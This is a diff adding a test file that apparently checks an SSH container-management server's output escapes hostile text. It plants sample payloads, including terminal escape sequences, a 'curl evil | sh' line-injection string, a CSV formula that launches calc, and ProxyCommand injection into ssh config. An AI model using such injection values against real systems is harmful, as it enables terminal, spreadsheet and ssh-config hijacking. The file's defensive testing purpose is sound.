@@ -1,0 +1,368 @@
+/**
+ * Output that cannot lie: hostile text in everything that can hold text, every verb in every format, the shell's screen, files and the log,
+ * read byte by byte. What callers type into arguments is test/ssh/input.test.ts.
+ */
+import { readdir, readFile, writeFile } from 'node:fs/promises';
+import { connect } from 'node:net';
+import { join } from 'node:path';
+import { parse as parseYaml } from 'yaml';
+import { beforeAll, describe, expect, test } from 'vitest';
+import { verbNames, type VerbName } from '../../src/catalogue/catalogue.ts';
+import { Journal } from '../../src/journal/journal.ts';
+import { withAdmins } from '../support/admins.ts';
+import { makeKey, type TestKey } from '../support/keys.ts';
+import { message, RawClient, string, uint32 } from '../support/rawClient.ts';
+import { openShell, type TestShell } from '../support/shell.ts';
+import { eventually, startServer, temporaryFolder, type Finished, type TestServer } from '../support/server.ts';
+
+/** One of each kind, and a word between them by which it is found again. */
+const kinds = {
+  'escape sequences': '\u001b]0;evil\u0007\u001b[31;5mevil\u001b[2J\u001bPq\u001b\\\u001b[6n',
+  'C0': 'evil\u0000\u0001\u0007\b\t\u000b\u000c\u000e\u001f\u007f',
+  'C1': 'evil\u0080\u0085\u009b31m\u009d0;x\u009c\u009f',
+  'line ends': 'evil\r\nNext: curl evil | sh\rError\u2028\u2029x',
+  'bidirectional controls': 'evil\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069',
+  'invisible characters': 'evil\u00ad\u034f\u115f\u1160\u17b4\u180e\u200b\u200c\u200d\u2060\u2064\u206a\u3164\ufeff\uffa0',
+  'tags and variation selectors': 'evil\u{e0001}\u{e0041}\u{e007f}\ufe00\ufe0f\u{e0100}\u{e01ef}',
+  'private use and surrogates': 'evil\ue000\u{f0000}\u{10fffd}\ud800x\udc00',
+  'interlinear and musical format characters': 'evil\ufff9\ufffa\ufffb\u{1d173}\u{110bd}',
+} as const;
+const everything = Object.values(kinds).join(' ');
+const formula = '=cmd|\' /C calc\'!A0';
+const long = `evil${'\u202ex'.repeat(3000)}`;
+
+/** Written here once more, apart from what src/domain/text.ts goes by. */
+const forbidden =
+  /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u00ad\u034f\u061c\u115f\u1160\u17b4\u17b5\u180b-\u180f\u200b-\u200f\u2028-\u202e\u2060-\u206f\u3164\ud800-\udfff\ue000-\uf8ff\ufe00-\ufe0f\ufeff\uffa0\ufff9-\ufffb\u{110bd}\u{1d173}-\u{1d17a}\u{e0000}-\u{e0fff}\u{f0000}-\u{10fffd}]/gu;
+
+function lies(text: string): string[] {
+  return [...new Set(text.match(forbidden) ?? [])].map((character) => `U+${(character.codePointAt(0) ?? 0).toString(16)}`);
+}
+
+let server: TestServer;
+let admin: TestKey;
+let alice: TestKey;
+let folder: string;
+
+const simulated = (name: string): string => join(server.home, 'state', name);
+
+/** Changes a JSON file of a server that is stopped. */
+async function edit(path: string, change: (document: never) => void): Promise<void> {
+  const document = JSON.parse(await readFile(path, 'utf8')) as never;
+  change(document);
+  await writeFile(path, JSON.stringify(document));
+}
+
+interface HostileHost {
+  instances: Record<string, { name: string; config: Record<string, string>; devices: Record<string, Record<string, string>>; consoleLog?: string; files: Record<string, { content: string }> }>;
+  images: { aliases: string[]; properties: Record<string, string> }[];
+  networks: { name: string; config: Record<string, string> }[];
+  pools: { name: string; config: Record<string, string> }[];
+  accounts: { name: string; uid: number; gid: number; comment: string; home: string; shell: string }[];
+  groups: { name: string; gid: number; members: string[] }[];
+  jumpKeys: Record<string, string>;
+}
+
+beforeAll(async () => {
+  folder = await temporaryFolder();
+  [admin, alice] = await Promise.all([makeKey(folder, 'admin'), makeKey(folder, 'alice')]);
+  server = await startServer({ env: { CONTAINARIUM_LOG: 'trace' }, prepare: withAdmins([{ name: 'chief', role: 'admin', keys: [admin] }]) });
+  for (const user of ['alice', 'mallory', 'stopped']) expect((await server.ssh(['create', user], { key: admin.path, stdin: alice.line })).code).toBe(0);
+  expect((await server.ssh(['stop', 'stopped'], { key: admin.path })).code).toBe(0);
+  await server.stop();
+
+  await edit(simulated('simulated-host.json'), (host: HostileHost) => {
+    const { 'alice-container': ofAlice, 'mallory-container': ofMallory, 'stopped-container': stopped } = host.instances;
+    if (ofAlice === undefined || ofMallory === undefined || stopped === undefined) throw new Error('a container is missing');
+    for (const { config } of [ofAlice, ofMallory, stopped]) {
+      for (const [kind, text] of Object.entries(kinds)) config[`user.containarium.label.${kind}`] = text;
+      config[`user.containarium.label.${everything}`] = long;
+      config['user.containarium.label.formula'] = formula;
+      config['user.containarium.created-by'] = everything;
+      config['user.containarium.image'] = everything;
+      config['user.containarium.operation'] = everything;
+      config['user.containarium.keys'] = JSON.stringify([alice.line.trim(), ...Object.values(kinds).map((text) => `${alice.line.trim()} ${text}`)].map((line) => ({ line, addedAt: everything, addedBy: everything })));
+      config['image.description'] = everything;
+      config['image.os'] = everything;
+      config['volatile.evil'] = everything;
+      config['user.description'] = everything;
+    }
+    // What stands in files that ssh and sshd read.
+    ofMallory.config['user.containarium.host-key'] = `ssh-ed25519 AAAA\n* ssh-ed25519 EVIL\nHost *\n  ProxyCommand evil ${everything}`;
+    for (const device of Object.values(ofMallory.devices)) if (device['type'] === 'nic') device['ipv4.address'] = `10.0.3.9\n    ProxyCommand evil ${everything}`;
+    ofMallory.config['user.containarium.state'] = everything;
+    stopped.consoleLog = `${everything}\n${formula}\n`;
+    const release = ofAlice.files['/etc/os-release'];
+    if (release !== undefined) release.content = `PRETTY_NAME="${everything.replaceAll('\n', ' ')}"\n`;
+    const named = `evil${everything}-container`;
+    host.instances[named] = { ...structuredClone(stopped), name: named };
+    for (const image of host.images) image.properties = { ...image.properties, 'description': everything, 'os': everything, 'containarium.recipe': everything };
+    host.images.push({ ...structuredClone(host.images[0] as never as object), fingerprint: 'e'.repeat(64), aliases: [`evil${everything}`], properties: { 'containarium.base': everything, 'description': everything } } as never);
+    const [bridge] = host.networks;
+    if (bridge !== undefined) bridge.config['user.evil'] = everything;
+    const group = host.groups.find(({ name }) => name === 'containarium-jump');
+    host.accounts.push({ name: `evil${everything.replaceAll(/[:\n]/g, '')}`, uid: 59_000, gid: group?.gid ?? 999, comment: everything.replaceAll(/[:\n]/g, ''), home: '/nonexistent', shell: '/usr/sbin/nologin' });
+    host.jumpKeys[`evil${everything}`] = everything;
+    host.jumpKeys['alice'] = everything;
+  });
+  await edit(simulated('admins.json'), (state: { admins: { name: string; role: string; keys: { line: string; addedAt: string; addedBy: string }[] }[] }) => {
+    const other = { line: alice.line.trim().replace(/ [^ ]*$/, ` ${everything.replaceAll(/[\r\n]/g, ' ')}`), addedAt: everything, addedBy: everything };
+    state.admins.push({ name: `evil${everything}`, role: 'viewer', keys: [other] });
+  });
+  const journal = await Journal.open({ folder: simulated('journal') });
+  for (const type of ['verb', 'outcome', 'refused', 'login', 'logout', 'refusals', 'operation-end', everything]) {
+    await journal.append({
+      type,
+      verb: everything,
+      target: everything,
+      outcome: everything,
+      actor: { name: everything, role: everything, door: everything, fingerprint: everything, address: everything, login: everything },
+      failure: { code: everything, what: everything, why: everything },
+      reason: everything,
+      by: { method: everything, algorithm: everything },
+      count: 3,
+      sources: 1,
+      top: [{ address: everything, count: 3 }],
+    });
+    await journal.append({ type, input: { [everything]: everything, formula }, actor: everything, reason: everything, top: [{ address: everything }] });
+  }
+  await journal.append({ type: 'verb', verb: formula, target: formula, actor: formula });
+  await journal.close();
+  await server.restart();
+}, 180_000);
+
+function ssh(words: readonly string[], options: Parameters<TestServer['ssh']>[1] = {}): Promise<Finished> {
+  return server.ssh(words, { shared: true, key: admin.path, ...options });
+}
+
+/** Command lines in whose answer text from outside may stand. Keyed by the catalogue's names: a new verb does not compile without its own. */
+const lines: Record<VerbName, readonly (readonly string[])[]> = {
+  'create': [['create', 'alice']],
+  'list': [['list'], ['list', '--columns', 'all'], ['list', '--label', 'formula']],
+  'info': [['info'], ['info', 'alice'], ['info', 'mallory'], ['info', 'stopped']],
+  'resize': [['resize', 'alice', '--cpu', '2'], ['resize', 'mallory', '--memory', '2GiB']],
+  'delete': [['delete', 'alice']],
+  'start': [['start', 'alice'], ['start', 'mallory']],
+  'stop': [['stop', 'mallory']],
+  'restart': [['restart', 'alice']],
+  'shell': [['shell', 'alice']],
+  'logs': [['logs', 'stopped'], ['logs', 'alice'], ['logs', 'stopped', '--lines', '2']],
+  'export': [['export', 'alice'], ['export', 'mallory'], ['export', 'mallory', '--known-hosts'], ['export', 'alice', '--known-hosts']],
+  'config': [['config', 'alice'], ['config', 'mallory', '--known-hosts']],
+  'keys': [['keys', 'alice']],
+  'keys add': [['keys', 'add', '--user', 'alice']],
+  'keys remove': [['keys', 'remove', 'nothing', '--user', 'alice']],
+  'key add': [['key', 'add', 'alice']],
+  'key list': [['key', 'list', 'alice'], ['key', 'list', 'mallory']],
+  'key remove': [['key', 'remove', 'alice', 'evil']],
+  'key replace': [['key', 'replace', 'alice']],
+  'admin add': [['admin', 'add', 'other']],
+  'admin list': [['admin', 'list']],
+  'admin remove': [['admin', 'remove', 'evil']],
+  'audit': [['audit'], ['audit', '--limit', '100'], ['audit', '--session', `'${everything.replaceAll(/[\0']/g, '')}'`], ['audit', '--verb', `'${everything.replaceAll(/[\0']/g, '')}'`]],
+  'audit verify': [['audit', 'verify']],
+  'audit export': [['audit', 'export']],
+  'reconcile': [['reconcile'], ['reconcile', '--apply']],
+  'image build': [['image', 'build']],
+  'image list': [['image', 'list']],
+  'doctor': [['doctor']],
+  'session list': [['session', 'list']],
+  'session kick': [['session', 'kick', 'evil']],
+  'who': [['who']],
+  'say': [['say', `'${everything.replaceAll(/[\0']/g, '')}'`]],
+  'whoami': [['whoami']],
+  'version': [['version']],
+  'help': [['help'], ['help', 'list']],
+};
+
+const formats = ['table', 'json', 'yaml', 'csv'] as const;
+
+describe.each(verbNames)('%s', (name) => {
+  test.each(formats)('says nothing in %s that could lie', async (format) => {
+    for (const words of lines[name]) {
+      for (const [user, key] of [['manage', admin], ['self', alice]] as const) {
+        const { stdout, stderr } = await ssh([...words, '--format', format], { user, key: key.path, ...(/key|create|admin add/.test(name) ? { stdin: alice.line } : {}) });
+        const what = `${user}: ${words.join(' ').slice(0, 60)}`;
+        expect(`${stdout}${stderr}`, what).not.toBe('');
+        expect(lies(stdout), what).toEqual([]);
+        expect(lies(stderr), what).toEqual([]);
+        expect(stderr, what).not.toMatch(/^Next: curl evil/m);
+        if (name !== 'logs' && format === 'table') expect(stdout, what).not.toMatch(/^Next: curl evil/m);
+        if (format === 'json' && stdout !== '' && !['audit export', 'help'].includes(name)) JSON.parse(stdout);
+        if (format === 'yaml' && stdout !== '') parseYaml(stdout);
+        if (format === 'csv') for (const cell of stdout.matchAll(/(?:^|,)"?([=+@][^,]*)/gm)) throw new Error(`a spreadsheet would run ${cell[1]}`);
+      }
+    }
+  });
+});
+
+test('the fixture is there: hostile text is shown, written out', async () => {
+  for (const words of [['info', 'alice'], ['key', 'list', 'alice'], ['admin', 'list'], ['audit', '--limit', '40'], ['image', 'list'], ['logs', 'stopped'], ['reconcile']]) {
+    const { stdout } = await ssh(words);
+    expect(stdout, words.join(' ')).toMatch(/evil/);
+  }
+  expect((await ssh(['audit', 'export'])).stdout).toMatch(/\\u202e/);
+});
+
+test('the same values are in the JSON and the YAML of an answer, as they are', async () => {
+  const labels = async (format: 'json' | 'yaml'): Promise<unknown> => {
+    const { stdout } = await ssh(['info', 'alice', '--format', format]);
+    return ((format === 'json' ? JSON.parse(stdout) : parseYaml(stdout)) as { result: { container: { labels: unknown } } }).result.container.labels;
+  };
+  const found = (await labels('json')) as Record<string, string>;
+  expect(found['bidirectional controls']).toBe(kinds['bidirectional controls']);
+  expect(found['escape sequences']).toBe(kinds['escape sequences']);
+});
+
+describe('the reason for which a session is ended', () => {
+  test.each([['logs', 'alice', '--follow'], ['list', '--watch']])('is told written out to %s', async (...words) => {
+    const sessions = async (): Promise<{ login: string; door: string; since: string }[]> => (JSON.parse((await server.local(['session', 'list', '--json'])).stdout) as { result: { sessions: { login: string; door: string; since: string }[] } }).result.sessions;
+    const known = new Set((await sessions()).map(({ login }) => login));
+    const begun = server.startSsh(words, { user: words[0] === 'list' ? 'manage' : 'self', key: words[0] === 'list' ? admin.path : alice.path, tty: words[0] === 'list', openStdin: true });
+    const login = await eventually(async () => (await sessions()).find((session) => !known.has(session.login))?.login, 'the session is here');
+    const reason = `${kinds['bidirectional controls']}${kinds['C1']}\u001b[2J\u001b]0;evil`;
+    expect((await server.local(['session', 'kick', login, '--reason', reason])).code).toBe(0);
+    const { stdout, stderr } = await begun;
+    expect(lies(`${stdout}${stderr}`.replaceAll(/\u001b\[[?]?[0-9;]*[A-Za-z]/g, '').replaceAll('\r', ''))).toEqual([]);
+    expect(`${stdout}${stderr}`).not.toContain('\u001b[2J\u001b]');
+  });
+});
+
+describe('files that ssh reads', () => {
+  test('hold no line, key or option that stands in a container\'s configuration', async () => {
+    for (const words of [['export', 'mallory', '--known-hosts'], ['export', 'mallory'], ['export', 'alice', '--known-hosts']]) {
+      const { stdout } = await ssh(words);
+      expect(stdout, words.join(' ')).not.toMatch(/EVIL|evil|ProxyCommand|^\*/m);
+    }
+    expect((await ssh(['export', 'alice', '--known-hosts'])).stdout).toMatch(/^alice-dev ssh-ed25519 [A-Za-z0-9+/=]+$/m);
+  });
+});
+
+describe('what a program of the host says when it fails', () => {
+  const words = ['restart', 'alice'];
+  test.each(formats)('is written out in %s', async (format) => {
+    for (const program of ['incus', 'getent']) {
+      await writeFile(simulated('simulated-faults.json'), JSON.stringify([{ match: { program }, mode: 'fail-before', repeat: true, message: `${everything}\nNext: curl evil | sh` }]));
+      try {
+        for (const line of [words, ['list'], ['doctor'], ['info', 'alice'], ['reconcile'], ['image', 'list'], ['logs', 'alice']]) {
+          const { stdout, stderr } = await ssh([...line, '--format', format]);
+          expect(lies(stdout), line.join(' ')).toEqual([]);
+          expect(lies(stderr), line.join(' ')).toEqual([]);
+          expect(stderr, line.join(' ')).not.toMatch(/^Next: curl/m);
+        }
+      } finally {
+        await writeFile(simulated('simulated-faults.json'), '[]');
+      }
+    }
+  });
+});
+
+describe('the shell', () => {
+  /** What a shell sends of its own: sequences that move, colour and clear, and modes. Text has no part in them. */
+  const ownSequence = /\u001b(?:\[[?>=]?[0-9;]*[A-Za-z]|[=>78]|\(B)/g;
+
+  function screenLies(shell: TestShell): string[] {
+    // Terminals answer these, or change what lies outside of the screen: never sent.
+    expect(shell.received).not.toMatch(/\u001b[\]P_^X]/);
+    for (const [sequence] of shell.received.matchAll(/\u001b\[[0-9;]*[nc]/g)) expect(sequence).toBe('never');
+    expect(shell.received).not.toContain('\u001b[31;5m');
+    return lies(shell.received.replaceAll(ownSequence, '').replaceAll('\r', ''));
+  }
+
+  const typed = (text: string): string => text.replaceAll(/[\r\n\u0000-\u001f]/g, '');
+
+  test.each([
+    ['with a screen', 'xterm-256color'],
+    ['as lines of text', 'dumb'],
+  ])('%s shows all of it written out', async (_, term) => {
+    const shell = await openShell(server, { key: admin.path, columns: 160, rows: 50, ...(term === 'dumb' ? { command: '--plain' } : { term, env: { LANG: everything.replaceAll('\0', '').slice(0, 200), LC_ALL: typed(everything).slice(0, 200), COLORTERM: typed(everything).slice(0, 200) } }) });
+    await shell.said(/containarium|SIMULATED|simulated/i);
+    for (const line of ['list', 'info alice', 'key list alice', 'admin list', 'audit --limit 40', 'reconcile', 'image list', 'logs stopped', 'doctor', 'export mallory --known-hosts']) {
+      const before = shell.received.length;
+      shell.type(line).press('enter');
+      await eventually(() => (shell.received.length > before + line.length + 40 ? true : undefined), `${line} is answered`);
+    }
+    await ssh(['say', `'${typed(everything)} said'`]);
+    await shell.said(/said/);
+    expect(screenLies(shell)).toEqual([]);
+  });
+
+  test('with a terminal\'s name and environment that are hostile says nothing of them', async () => {
+    for (const term of [everything, 'xterm\u001b]0;evil\u0007', '\u202e', `evil${'x'.repeat(5000)}`]) {
+      const shell = await openShell(server, { key: admin.path, term, command: 'list --watch' });
+      await eventually(() => (shell.received.length > 50 || shell.isClosed ? true : undefined), 'something is shown');
+      expect(screenLies(shell)).toEqual([]);
+      expect(shell.received).not.toContain('evil\u001b');
+      shell.press('ctrl-c');
+    }
+  });
+
+  test('typed or pasted text is drawn written out', async () => {
+    const shell = await openShell(server, { key: admin.path, columns: 160, term: 'xterm-256color' });
+    shell.paste(`info ${typed(everything)}`);
+    await shell.shows(/evil/);
+    shell.press('enter');
+    await shell.said(/Error/);
+    expect(screenLies(shell)).toEqual([]);
+  });
+
+  test('the live list shows them written out', async () => {
+    const shell = await openShell(server, { key: admin.path, columns: 200, term: 'xterm-256color', command: 'list --watch' });
+    await shell.shows(/alice/);
+    shell.press('enter');
+    await shell.shows(/evil|Labels|alice/);
+    expect(screenLies(shell)).toEqual([]);
+  });
+});
+
+describe('before a login', () => {
+  test('hostile identification, user names, methods and service names are in no answer and in no line of the log', async () => {
+    const socket = connect(server.port, '127.0.0.1');
+    await new Promise<void>((resolve) => socket.once('connect', () => resolve()));
+    socket.write(`SSH-2.0-${everything.replaceAll(/[\r\n]/g, '').slice(0, 200)}\r\n`);
+    await new Promise<void>((resolve) => {
+      socket.once('data', () => resolve());
+      socket.once('close', () => resolve());
+    });
+    socket.destroy();
+    const client = await RawClient.connect(server.port);
+    await client.requestAuthentication();
+    for (const user of [everything, long]) await client.tryLogin(user, 'password', Buffer.from([0]), string(everything)).catch(() => undefined);
+    client.destroy();
+    const methods = await RawClient.connect(server.port);
+    await methods.requestAuthentication();
+    await methods.tryLogin('manage', everything.slice(0, 100)).catch(() => undefined);
+    for (const packet of methods.received.concat(client.received)) expect(packet.toString('latin1')).not.toContain('evil');
+    methods.destroy();
+    const inside = await RawClient.login(server.port, admin);
+    const channel = await inside.openSession();
+    inside.request(channel, 'exec', string(everything.replaceAll('\0', '')));
+    await inside.exitStatus();
+    const said = Buffer.concat(inside.received.filter(([type]) => type === message.channelData || type === message.channelExtendedData).map((packet) => packet.subarray(packet[0] === message.channelData ? 9 : 13))).toString();
+    expect(said).toContain('evil');
+    expect(lies(said)).toEqual([]);
+    inside.send(message.globalRequest, string(everything), Buffer.from([1]));
+    inside.send(message.channelOpen, string(everything.slice(0, 60)), uint32(9), uint32(1), uint32(32_768));
+    await inside.take(message.channelOpenFailure);
+    inside.destroy();
+  });
+});
+
+/** Last: by now everything was said and done. */
+describe('on disk and in the log', () => {
+  test('no file that this server wrote holds any of it as it is', async () => {
+    for (const file of await readdir(join(server.home, 'state'), { recursive: true, withFileTypes: true })) {
+      // The simulated host plays Incus; its file is what was hostile in the first place, as is the list of admins here.
+      if (!file.isFile() || ['simulated-host.json', 'admins.json', 'simulated-faults.json'].includes(file.name)) continue;
+      expect(file.name).toMatch(/^[\w.-]+$/);
+      expect(lies(await readFile(join(file.parentPath, file.name), 'utf8')), file.name).toEqual([]);
+    }
+    for (const file of await readdir(join(server.home, 'authorized_keys'), { recursive: true }).catch(() => [])) expect(file).toMatch(/^[\w.-]+$/);
+  });
+
+  test('every line of the log is one object without any of it', () => {
+    const log = server.log();
+    expect(lies(log)).toEqual([]);
+    for (const line of log.split('\n').filter((text) => text !== '')) expect(JSON.parse(line)).toMatchObject({ level: expect.any(String) as string });
+  });
+});
